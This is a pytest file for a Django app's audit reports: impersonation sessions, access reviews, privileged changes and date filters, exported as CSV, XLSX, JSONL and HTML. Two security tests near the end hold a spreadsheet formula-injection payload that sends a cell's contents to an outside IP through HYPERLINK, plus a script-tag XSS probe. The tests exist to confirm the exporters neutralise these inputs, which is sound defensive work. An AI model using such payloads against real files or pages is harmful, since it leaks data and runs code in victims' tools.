"""What the reports say, in each format."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from core import clock, context
from core.errors import Invalid
from impersonation import services as support
from impersonation.errors import ConsentNeeded
from impersonation.models import SupportRequest
from reports import services
from reports.definitions import all_reports, settle, span
from reports.tests.helpers import RUNBOOK, a_session, lines, made, some_events
from tenants import services as tenant_services
from tenants.models import TenantRole
from tenants.scope import platform_scope
from tenants.tokens import create_token

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("kind", ["csv", "jsonl", "xlsx", "html"])
@pytest.mark.parametrize("name", [report.name for report in all_reports()])
def test_each_report_is_made_in_each_format_twice_alike_and_can_be_proven(cast: Any, name: str, kind: str) -> None:
    a_session(cast, cast.tenant, cast.operator)
    some_events(cast.tenant, 2)
    asked = settle(as_of=clock.now())
    for tenant in (cast.tenant, None):
        first, second = (made(name, tenant, kind=kind, asked=asked) for _ in range(2))
        assert first.rows is not None and first.rows > 0
        assert services.file_of(first).read_bytes() == services.file_of(second).read_bytes()
        assert services.verify(first).holds


def test_sessions_begin_with_the_runbooks_columns(cast: Any) -> None:
    session = a_session(cast, cast.tenant, cast.operator)
    with context.acting(actor_id=cast.support.pk, acting_as_id=cast.operator.pk, session_id=session.pk, source="web"):
        some_events(cast.tenant, 3, "READ")
        some_events(cast.tenant, 1, "REFUSED")
    run = made("impersonation-sessions", None)
    (row,) = lines(run)
    assert list(row)[: len(RUNBOOK)] == RUNBOOK
    assert (row["actor_email"], row["impersonated_email"]) == ("support@example.org", "operator@example.org")
    assert (row["tenant_name"], row["ip_address"], float(row["duration_minutes"])) == ("Acme Robotics", "192.0.2.9", 30)
    assert (row["reads"], row["refusals"], row["ticket"], row["mode"]) == ("3", "1", "SUP-7", "READ_ONLY")
    (total,) = lines(made("actor-summary", None))
    assert list(total)[:5] == ["actor", "total_sessions", "tenants_accessed", "total_hours", "last_session"]
    assert (total["actor"], total["total_sessions"], float(total["total_hours"])) == ("support@example.org", "1", 0.5)


def test_the_access_review_knows_who_gave_what(cast: Any) -> None:
    with context.acting(actor_id=cast.owner.pk, source="web"):
        tenant_services.set_membership(tenant=cast.tenant, user=cast.viewer, role=TenantRole.APPROVER, by=cast.owner)
    create_token(user=cast.operator, name="deploy", tenant=cast.tenant, created_by=cast.owner, permissions=["operate"])
    rows = lines(made("access-review", cast.tenant))
    member = next(r for r in rows if r["person_email"] == "viewer@example.org")
    assert (member["role"], member["granted_by"], member["granted_how"]) == ("approver", "owner@example.org", "web")
    assert "approve" in member["grants"] and "operate" not in member["grants"]
    token = next(r for r in rows if r["access"] == "API token")
    assert (token["person_email"], token["grants"], token["tenant"]) == ("operator@example.org", "operate", "acme")
    assert {r["tenant"] for r in rows} == {"acme"}
    create_token(user=cast.operator, name="mine")
    everywhere = lines(made("access-review", None))
    (unbound,) = [r for r in everywhere if r["role"].startswith("mine")]
    assert (unbound["access"], unbound["tenant"]) == ("API token for all tenants", "acme"), "it opens this tenant, too"
    assert {"platform admin", "platform role"} <= {r["access"] for r in everywhere}


def test_privileged_changes_name_whom_they_are_about(cast: Any) -> None:
    with context.acting(actor_id=cast.owner.pk, source="web"):
        tenant_services.set_membership(tenant=cast.tenant, user=cast.viewer, role=TenantRole.OPERATOR, by=cast.owner)
    changes = lines(made("privileged-changes", cast.tenant))
    role = next(r for r in changes if r["action"] == "UPDATE" and r["object_kind"] == "memberships")
    assert (role["actor_email"], role["about"]) == ("owner@example.org", "viewer@example.org")
    assert json.loads(role["before"])["role"] == "viewer" and json.loads(role["after"])["role"] == "operator"
    assert any(r["object_kind"] == "tenant_grants" and r["object"] == "operate" for r in changes)


def test_a_period_a_person_and_a_tenant_narrow(cast: Any) -> None:
    some_events(cast.tenant, 2)
    some_events(cast.other_tenant, 1)
    with context.acting(actor_id=cast.owner.pk, source="web"):
        some_events(cast.tenant, 1)
    now = clock.now()
    counts = {
        "all": settle(as_of=now),
        "tenant": settle(as_of=now, tenant="acme"),
        "person": settle(as_of=now, person="Owner@example.org"),
        "before": settle(as_of=now, until=(now - timedelta(days=1)).isoformat()),
    }
    rows = {name: made("refused-attempts", None, asked=asked).rows for name, asked in counts.items()}
    assert rows == {"all": 4, "tenant": 3, "person": 1, "before": 0}


def test_nothing_later_than_asked_for_is_in_it(cast: Any) -> None:
    some_events(cast.tenant, 1)
    asked = settle(as_of=clock.now())
    some_events(cast.tenant, 5)
    assert made("refused-attempts", None, asked=asked).rows == 1


@pytest.mark.parametrize(
    ("given", "field"),
    [
        ({"since": "yesterday"}, "since"),
        ({"until": "9999-12-30"}, None),
        ({"until": "9999-12-31"}, "until"),
        ({"until": "0001-01-01"}, "until"),
        ({"since": "2026-02-30"}, "since"),
        ({"period": "decade"}, "period"),
        ({"since": "2026-05-02", "until": "2026-05-01"}, "since"),
    ],
)
def test_periods_that_cannot_be_read_name_their_field(given: dict[str, str], field: str | None) -> None:
    now = datetime(2026, 6, 1, 12, tzinfo=UTC)
    if field is None:
        assert settle(as_of=now, **given).until == now
        return
    with pytest.raises(Invalid) as refused:
        settle(as_of=now, **given)
    assert field in refused.value.details


def test_relative_periods_are_whole() -> None:
    wednesday = datetime(2026, 3, 4, 15, 30, tzinfo=UTC)
    days = {p: tuple(f"{m:%m-%d %H:%M}" for m in span(p, wednesday)) for p in ("day", "week", "month")}
    assert days == {
        "day": ("03-03 00:00", "03-04 00:00"),
        "week": ("02-23 00:00", "03-02 00:00"),
        "month": ("02-01 00:00", "03-01 00:00"),
    }


# -- the files --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_no_cell_is_a_formula(cast: Any, start: str) -> None:
    text = f'{start}HYPERLINK("http://192.0.2.1/?"&A1)'
    a_session(cast, cast.tenant, cast.operator, reason=text)
    (row,) = csv.DictReader(
        io.StringIO(services.file_of(made("impersonation-sessions", None)).read_bytes().decode(), newline="")
    )
    assert row["reason"] == "'" + text
    with zipfile.ZipFile(services.file_of(made("impersonation-sessions", None, kind="xlsx"))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert not any("hyperlink" in name.lower() or ("rels" in name and "sheet" in name) for name in book.namelist())
    assert "<f>" not in sheet and "HYPERLINK" in sheet


def test_a_page_to_print_runs_no_markup(cast: Any) -> None:
    a_session(cast, cast.tenant, cast.operator, reason="<script>alert(1)</script>")
    page = services.file_of(made("impersonation-sessions", None, kind="html")).read_text()
    assert "<script" not in page and "&lt;script&gt;" in page


def test_write_mode_counts_also_after_it_was_given_back(cast: Any) -> None:
    """Summary and list against the rows themselves: two sessions, of which one had write mode for a while."""
    services_of = {"tenant": cast.tenant, "requested_by": cast.support, "impersonated_user": cast.operator}
    now = clock.now()
    reading, wrote = (a_session(cast, cast.tenant, cast.operator) for _ in range(2))
    with platform_scope():
        for session, used in ((reading, None), (wrote, now)):
            SupportRequest.objects.create(
                **services_of, kind="WRITE", session_id=session.pk, reason="The label must change", created_at=now,
                expires_at=now, decided_at=now, decided_by=cast.owner, approved=True, used_at=used,
            )  # fmt: skip
    for place in (None, cast.tenant):
        (total,) = lines(made("actor-summary", place))
        assert (total["total_sessions"], total["write_sessions"]) == ("2", "1")
        modes = {row["session_id"]: row["mode"] for row in lines(made("impersonation-sessions", place))}
        assert modes == {str(reading.pk): "READ_ONLY", str(wrote.pk): "WRITE"}


def test_who_agreed_to_a_start_is_in_the_list(cast: Any) -> None:
    support.set_policy(tenant=cast.tenant, by=cast.owner, access="APPROVAL", write_consent="EITHER",
                       longest_minutes=30, idle_minutes=5)  # fmt: skip
    asked = {"actor": cast.support, "target": cast.viewer, "tenant": cast.tenant, "reason": "Labels come out twice",
             "origin": support.RequestOrigin(sign_in="digest")}  # fmt: skip
    with pytest.raises(ConsentNeeded) as wish:
        support.start_session(**asked)
    support.decide(request_id=wish.value.details["request_id"], by=cast.owner, approve=True)
    support.start_session(**asked)
    (row,) = lines(made("impersonation-sessions", cast.tenant))
    assert row["approved_by"] == f"{cast.owner.email} (start)"
